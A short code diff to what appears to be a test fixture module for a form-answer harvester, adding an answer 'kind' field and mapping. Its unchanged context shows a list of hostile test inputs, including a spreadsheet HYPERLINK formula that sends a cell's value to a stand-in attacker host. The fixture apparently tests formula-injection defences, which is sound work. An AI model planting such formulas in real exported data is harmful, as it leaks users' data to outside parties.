@@ -22,7 +22,7 @@ from harvester.models.record import (
 )
 from harvester.models.report import Answer, Figure, Tick
 from harvester.models.status import Claim, EvidenceWord, Status, Trace, Verdict
-from harvester.models.template import Limits
+from harvester.models.template import Kind, Limits
 
 SHA = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"
 ROOT = "7e57" * 10
@@ -117,6 +117,8 @@ QUESTIONS: tuple[tuple[str, str, int | None, int | None, int], ...] = (
     ("struggles", "Struggles", 200, 400, 0),
     ("contributions", "Contributions", 50, 300, 0),
 )
+
+KINDS: dict[str, Kind] = {"group_number": "group_number", "members": "members"}
 
 HOSTILE: tuple[str, ...] = (
     '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
@@ -272,6 +274,7 @@ def make_answer(number: int, *, hostile: bool = False, variant: int = 0) -> Answ
         number=number,
         id=id_,
         title=title,
+        kind=KINDS.get(id_, "prose"),
         answered=answered,
         text=text,
         words=words,
